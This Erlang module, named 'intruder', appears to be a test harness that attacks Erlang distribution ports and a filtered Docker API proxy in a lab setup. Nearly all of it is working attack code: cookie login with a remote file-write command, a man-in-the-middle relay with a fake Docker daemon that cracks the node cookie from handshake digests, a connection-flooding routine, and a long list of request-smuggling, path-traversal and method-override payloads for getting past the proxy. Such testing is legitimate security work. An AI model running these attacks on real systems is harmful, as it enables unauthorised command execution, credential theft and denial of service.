%% SPDX-License-Identifier: Apache-2.0

%% Someone who is no node: what he gets out of the ports that nodes and Docker
%% leave open. Each function prints what it found, one line for each thing.
-module(intruder).

-export([login/4, middle/4, false_daemon/3, crowd/3, requests/3]).

-define(TIMEOUT_MS, 40000).
%% What OTP 25 to 29 want (kernel's dist.hrl), and no more: no atom cache, no
%% fragments, and not published, so that nobody else is told of this node.
-define(FLAGS, 16#407070f94).
%% What is written in a node's container when it could be made to.
-define(TROPHY, "/box/intruded").

-type stream() :: {gen_tcp, gen_tcp:socket()} | {ssl, ssl:sslsocket()}.

%% ---------------------------------------------------------------------
%% The port of a node
%% ---------------------------------------------------------------------

%% Connects as a node would, with this cookie, and makes the other one write a
%% file, where it lets him.
-spec login(gen_tcp | ssl, string(), inet:port_number(), string()) -> ok.
login(Module, Host, Port, Cookie) ->
    said(try
             Stream = connect(Module, Host, Port),
             {Challenge, Name, _} = greet(Stream),
             say("name ~ts", [Name]),
             ok = reply(Stream, 1, digest(Cookie, Challenge)),
             <<$a, _:16/binary>> = recv(Stream),
             command(Stream)
         catch
             throw:Reason -> Reason
         end).

%% Stands between a node and the one that it looks for: answers as Docker's
%% daemon does, with a port of his own, and takes from the handshake of the one
%% what the other wants to see. Guesses is a file with possible cookies.
-spec middle(gen_tcp | ssl, string(), inet:port_number(), string()) -> ok.
middle(Module, Host, Port, Guesses) ->
    {OwnPort, Accept} = listen(Module),
    daemon("0.0.0.0", OwnPort),
    say("ready", []),
    said(try
             Victim = Accept(),
             <<$N, _Flags:64, _:32, Length:16, Name:Length/binary, _/binary>> =
                 recv(Victim),
             say("first ~ts", [Name]),
             Other = connect(Module, Host, Port),
             {Challenge, _, Packet} = greet(Other),
             ok = send(Victim, <<"sok">>),
             %% Else the victim would expect what the other one can.
             <<$N, _:64, Rest/binary>> = Packet,
             ok = send(Victim, <<$N, ?FLAGS:64, Rest/binary>>),
             <<$r, Counter:32, Digest:16/binary>> = Reply = recv(Victim),
             say("cookie ~ts", [guess(Guesses, Challenge, Digest)]),
             ok = reply(Other, Counter, Digest),
             <<$a, _:16/binary>> = Ack = recv(Other),
             say("sent ~tp", [lists:flatten([io_lib:format("~ts", [P])
                                             || P <- [Name, Packet, Reply,
                                                      Ack]])]),
             _ = command(Other),
             ok = send(Victim, Ack),
             command(Victim)
         catch
             throw:Reason -> Reason
         end),
    %% To leave is to be noticed.
    timer:sleep(2000).

%% Answers one lookup as a daemon does, with this binding; prints the request,
%% and whether anyone then came to the port.
-spec false_daemon(string(), inet:port_number(), timeout()) -> ok.
false_daemon(BoundTo, Port, Timeout) ->
    {ok, Listener} = gen_tcp:listen(Port, [binary, {active, false}]),
    daemon(BoundTo, Port),
    say("ready", []),
    case gen_tcp:accept(Listener, Timeout) of
        {ok, _} -> said(came);
        {error, timeout} -> said(nobody)
    end.

%% Opens connections and says nothing, until it is ended.
-spec crowd(string(), inet:port_number(), pos_integer()) -> no_return().
crowd(Host, Port, Count) ->
    _ = [{ok, _} = gen_tcp:connect(Host, Port, [], ?TIMEOUT_MS)
         || _ <- lists:seq(1, Count)],
    say("ready", []),
    receive after infinity -> ok end.

-spec connect(gen_tcp | ssl, string(), inet:port_number()) -> stream().
connect(Module, Host, Port) ->
    Options = [binary, {active, false}, {packet, 2}],
    All = case Module of
              ssl ->
                  {ok, _} = application:ensure_all_started(ssl),
                  [{verify, verify_none}, {log_level, none} | Options];
              gen_tcp -> Options
          end,
    case Module:connect(Host, Port, All, ?TIMEOUT_MS) of
        {ok, Socket} -> {Module, Socket};
        {error, Reason} -> throw({not_connected, Reason})
    end.

%% A port that accepts one connection; by TLS, with a certificate that he made.
-spec listen(gen_tcp | ssl) -> {inet:port_number(), fun(() -> stream())}.
listen(gen_tcp) ->
    {ok, Listener} = gen_tcp:listen(0, [binary, {active, false},
                                        {packet, 2}]),
    {ok, Port} = inet:port(Listener),
    {Port, fun() ->
                   {ok, Socket} = gen_tcp:accept(Listener),
                   {gen_tcp, Socket}
           end};
listen(ssl) ->
    {ok, _} = application:ensure_all_started(ssl),
    #{server_config := Config} =
        public_key:pkix_test_data(
          #{server_chain => #{root => [], intermediates => [], peer => []},
            client_chain => #{root => [], intermediates => [], peer => []}}),
    {ok, Listener} = ssl:listen(0, [binary, {active, false}, {packet, 2},
                                    {log_level, none}, {verify, verify_none}
                                    | proplists:delete(verify, Config)]),
    {ok, {_, Port}} = ssl:sockname(Listener),
    {Port, fun() ->
                   {ok, Socket} = ssl:transport_accept(Listener),
                   case ssl:handshake(Socket, ?TIMEOUT_MS) of
                       {ok, Stream} -> {ssl, Stream};
                       {error, Reason} -> throw({no_handshake, Reason})
                   end
           end}.

-spec send(stream(), iodata()) -> ok.
send({Module, Socket}, Packet) ->
    case Module:send(Socket, Packet) of
        ok -> ok;
        {error, Reason} -> throw(Reason)
    end.

-spec recv(stream()) -> binary().
recv({Module, Socket}) ->
    case Module:recv(Socket, 0, ?TIMEOUT_MS) of
        {ok, Packet} -> Packet;
        {error, Reason} -> throw(Reason)
    end.

%% The first half of a handshake: what the other one is called, what it wants
%% answered, and its packet.
-spec greet(stream()) -> {non_neg_integer(), binary(), binary()}.
greet(Stream) ->
    Name = iolist_to_binary(io_lib:format("intruder~w@10.77.0.3",
                                          [rand:uniform(99999)])),
    ok = send(Stream, [$N, <<?FLAGS:64, 1:32, (byte_size(Name)):16>>, Name]),
    <<"sok">> = recv(Stream),
    <<$N, _Flags:64, Challenge:32, _Creation:32, Length:16,
      Peer:Length/binary, _/binary>> = Packet = recv(Stream),
    {Challenge, Peer, Packet}.

-spec reply(stream(), non_neg_integer(), binary()) -> ok.
reply(Stream, Challenge, Digest) ->
    send(Stream, [$r, <<Challenge:32>>, Digest]).

%% As dist_util:gen_digest/2.
-spec digest(string(), non_neg_integer()) -> binary().
digest(Cookie, Challenge) ->
    erlang:md5([Cookie, integer_to_list(Challenge)]).

-spec guess(file:filename(), non_neg_integer(), binary()) -> string().
guess(File, Challenge, Digest) ->
    {ok, Text} = file:read_file(File),
    case [Word || Word <- string:lexemes(binary_to_list(Text), "\n"),
                  digest(Word, Challenge) =:= Digest] of
        [Cookie] -> Cookie;
        [] -> "unknown"
    end.

%% What rpc:cast/4 would send. There is no answer: the file tells.
-spec command(stream()) -> in.
command({Module, Socket} = Stream) ->
    Options = [{packet, 4}],
    ok = case Module of
             gen_tcp -> inet:setopts(Socket, Options);
             ssl -> ssl:setopts(Socket, Options)
         end,
    Control = {6, self(), '', rex},
    Message = {'$gen_cast', {cast, file, write_file, [?TROPHY, <<>>], user}},
    ok = send(Stream, [112, term_to_binary(Control), term_to_binary(Message)]),
    in.

%% ---------------------------------------------------------------------
%% Docker's port
%% ---------------------------------------------------------------------

%% In the background: answers every lookup on port 4243.
-spec daemon(string(), inet:port_number()) -> pid().
daemon(BoundTo, Port) ->
    {ok, Listener} = gen_tcp:listen(4243, [binary, {active, false},
                                           {reuseaddr, true}]),
    Loop = fun Loop() ->
                   {ok, Socket} = gen_tcp:accept(Listener),
                   answer(Socket, BoundTo, Port),
                   Loop()
           end,
    Pid = spawn_link(Loop),
    ok = gen_tcp:controlling_process(Listener, Pid),
    Pid.

-spec answer(gen_tcp:socket(), string(), inet:port_number()) -> ok.
answer(Socket, BoundTo, Port) ->
    {ok, Request} = gen_tcp:recv(Socket, 0, ?TIMEOUT_MS),
    say("asked ~0tp", [binary_to_list(Request)]),
    {match, [Name]} = re:run(Request, "/containers/(.*)/json",
                             [{capture, all_but_first, list}]),
    Body = io_lib:format(
             "{\"Id\":\"~ts\",\"Name\":\"/~ts\",\"State\":{\"Running\":true},"
             "\"HostConfig\":{\"NetworkMode\":\"default\"},\"NetworkSettings\":"
             "{\"Ports\":{\"12345/tcp\":[{\"HostIp\":\"~ts\",\"HostPort\":"
             "\"~w\"}]}}}", [Name, Name, BoundTo, Port]),
    ok = gen_tcp:send(Socket, ["HTTP/1.1 200 OK\r\nContent-Length: ",
                               integer_to_list(iolist_size(Body)),
                               "\r\n\r\n", Body]),
    gen_tcp:close(Socket).

%% Sends requests for container Name, all at once; prints of each the statuses
%% of its answers, and its text.
-spec requests(string(), inet:port_number(), string()) -> ok.
requests(Host, Port, Name) ->
    Self = self(),
    Requests = forbidden(Name) ++ allowed(Name),
    Pids = [spawn_link(fun() ->
                               Self ! {self(), ask(Host, Port, Text)}
                       end)
            || {_, Text} <- Requests],
    lists:foreach(
      fun({Pid, {Kind, Text}}) ->
              Statuses = receive {Pid, Found} -> Found end,
              say("~s ~s ~0p", [Kind, Statuses,
                                   binary_to_list(iolist_to_binary(Text))])
      end,
      lists:zip(Pids, Requests)).

-spec ask(string(), inet:port_number(), iodata()) -> string().
ask(Host, Port, Text) ->
    {ok, Socket} = gen_tcp:connect(Host, Port, [binary, {active, false}],
                                   ?TIMEOUT_MS),
    _ = gen_tcp:send(Socket, Text),
    Answer = collect(Socket, <<>>),
    case re:run(Answer, "HTTP/[0-9.]+ ([0-9]+)",
                [global, {capture, all_but_first, list}]) of
        {match, Statuses} -> lists:join($,, Statuses);
        nomatch when Answer =:= <<>> -> "closed";
        nomatch -> "other"
    end.

%% Until the other side has been silent for long.
-spec collect(gen_tcp:socket(), binary()) -> binary().
collect(Socket, Before) ->
    case gen_tcp:recv(Socket, 0, 4000) of
        {ok, Bytes} -> collect(Socket, <<Before/binary, Bytes/binary>>);
        {error, _} -> Before
    end.

-spec allowed(string()) -> [{allowed, iodata()}].
allowed(Name) ->
    Get = ["GET /containers/", Name, "/json HTTP/1.1\r\nHost: x\r\n"],
    [{allowed, Text}
     || Text <- [[Get, "\r\n"],
                 %% Without what is asked for here.
                 [Get, "Connection: Upgrade\r\nUpgrade: tcp\r\n\r\n"],
                 [Get, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                  "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n"],
                 [Get, "X-HTTP-Method-Override: DELETE\r\n\r\n"],
                 %% HAProxy takes these, and writes them anew.
                 [Get, "A: b\0c\r\n\r\n"],
                 ["GET\t/containers/", Name, "/json HTTP/1.1\r\nHost: x\r\n"
                  "\r\n"]]].

%% (What follows a first request that is allowed is forbidden, too.)
-spec forbidden(string()) -> [{forbidden | second, iodata()}].
forbidden(Name) ->
    Container = "/containers/" ++ Name,
    Json = Container ++ "/json",
    Host = "Host: x\r\n",
    End = [" HTTP/1.1\r\n", Host, "\r\n"],
    Create = ["POST /containers/create HTTP/1.1\r\n", Host,
              "Content-Type: application/json\r\nContent-Length: 18\r\n\r\n"
              "{\"Image\":\"erlang\"}"],
    Long = [Create, Create],
    Body = fun(Headers, Text) ->
                   ["GET ", Json, " HTTP/1.1\r\n", Host, Headers, "\r\n", Text]
           end,
    Paths =
        ["/containers/json", "/containers/json?all=1", "/images/json",
         "/info", "/version", "/_ping", "/events", "/secrets", "/",
         "//" ++ tl(Json), "/containers//json", "/containers/./json",
         "/containers/../json", "/containers/%2e%2e/json",
         "/containers/%2e/json", "/containers/.%2e/images/json",
         "/containers/..%2fimages/json", Container ++ "%2fjson",
         Container ++ "/../json", Container ++ "/..%2f..%2fimages%2fjson",
         Container ++ "/json/", Container ++ "//json", Container ++ "/json/..",
         Container ++ "/./json", Container ++ "/json?size=1",
         Container ++ "/json#", Container ++ "/json;x", Container ++ "/json%00",
         Container ++ "/json%0d%0aX:%20y", Container ++ "/%6ason",
         "/containers/" ++ Name ++ "%2e/json", "\\containers\\x\\json",
         Container ++ "/JSON", "/Containers/" ++ Name ++ "/json",
         "/v1.41" ++ Json, "/v1.41/containers/json",
         Container ++ "/archive?path=/etc", Container ++ "/logs?stdout=1",
         Container ++ "/top", Container ++ "/export", Container ++ "/changes",
         Container ++ "/stats", Container ++ "/attach/ws?stream=1",
         "/exec/" ++ Name ++ "/json", "/images/" ++ Name ++ "/json",
         "http://x" ++ Json, "http://docker" ++ Json,
         "HTTP://x/containers/json", "docker" ++ Json,
         "*", "x:2375"],
    Methods = ["HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE",
               "CONNECT", "get", "GETX"],
    [{forbidden, Text}
     || Text <-
            [["GET ", Path, End] || Path <- Paths]
            ++ [[Method, " ", Json, End] || Method <- Methods]
            ++ [[Method, " ", Container ++ Path, " HTTP/1.1\r\n", Host,
                 "Content-Length: 0\r\n\r\n"]
                || {Method, Path} <- [{"POST", "/exec"}, {"POST", "/start"},
                                      {"POST", "/attach?stream=1"},
                                      {"POST", "/update"}, {"DELETE", ""},
                                      {"PUT", "/archive?path=/"}]]
            ++ [Create,
                ["POST ", Json, " HTTP/1.1\r\n", Host,
                 "X-HTTP-Method-Override: GET\r\nContent-Length: 0\r\n\r\n"],
                ["POST ", Container, "/attach?stream=1 HTTP/1.1\r\n", Host,
                 "Connection: Upgrade\r\nUpgrade: tcp\r\n\r\n"],
                %% Other protocols
                ["GET ", Json, " HTTP/1.0\r\n\r\n"],
                ["GET ", Json, "\r\n"],
                ["GET ", Json, " HTTP/2.0\r\n", Host, "\r\n"],
                ["GET ", Json, " HTTP/1.2\r\n", Host, "\r\n"],
                <<"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 0:24, 4, 0, 0:32>>,
                <<22, 3, 1, 0, 8, 1, 0, 0, 4, 3, 3, 0, 0>>,
                %% A second request where one server sees a body and the other
                %% none
                Body("Content-Length: 0\r\n", Long),
                Body(["Content-Length: ", integer_to_list(iolist_size(Long)),
                      "\r\n"], Long),
                Body("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
                     ["0\r\n\r\n", Long]),
                Body("Transfer-Encoding: chunked\r\n", ["0\r\n\r\n", Long]),
                Body("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
                     ["0\r\n\r\n", Long]),
                Body("Transfer-Encoding: identity\r\n", Long),
                Body("Transfer-Encoding: xchunked\r\n", ["0\r\n\r\n", Long]),
                Body("Transfer-Encoding : chunked\r\n", ["0\r\n\r\n", Long]),
                Body("Transfer-Encoding: \vchunked\r\n", ["0\r\n\r\n", Long]),
                Body("Content-Length: 1\r\nContent-Length: 2\r\n", Long),
                Body("Content-Length: +3\r\n", Long),
                Body("Content-Length : 3\r\n", Long),
                ["GET ", Json, " HTTP/1.1\nHost: x\rTransfer-Encoding: chunked"
                 "\r\n\r\n"],
                ["GET ", Json, " ", Json, End]]]
        ++ [{second, Text}
            || Text <- [["GET ", Json, End, Create],
                        %% To HAProxy, the second line of Host
                        Body(" Content-Length: 3\r\n", Long)]].

%% ---------------------------------------------------------------------

-spec said(term()) -> ok.
said(Result) ->
    say("result ~0tp", [Result]).

-spec say(string(), [term()]) -> ok.
say(Format, Arguments) ->
    io:format(Format ++ "~n", Arguments).
